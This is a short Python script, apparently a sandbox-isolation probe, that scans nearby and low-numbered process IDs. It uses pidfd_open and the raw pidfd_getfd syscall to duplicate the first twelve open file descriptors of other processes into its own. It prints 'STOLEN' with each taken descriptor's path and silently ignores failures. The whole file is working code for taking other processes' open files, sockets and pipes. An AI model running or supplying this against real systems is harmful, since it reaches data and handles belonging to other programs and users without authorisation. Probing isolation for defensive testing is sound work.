"""Takes open files out of other processes: pidfd_open, then pidfd_getfd."""

import contextlib
import ctypes
import os

PIDFD_GETFD = 438
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
mine = {0, me, *map(int, os.listdir("/proc/self/task"))}

for pid in {*range(1, 60), *range(max(1, me - 300), me + 50), os.getppid()} - mine:
    with contextlib.suppress(OSError):
        process = os.pidfd_open(pid)
        for number in range(12):
            taken = libc.syscall(PIDFD_GETFD, process, number, 0)
            if taken >= 0:
                print("STO" + "LEN", pid, number, os.readlink(f"/proc/self/fd/{taken}"))
        os.close(process)
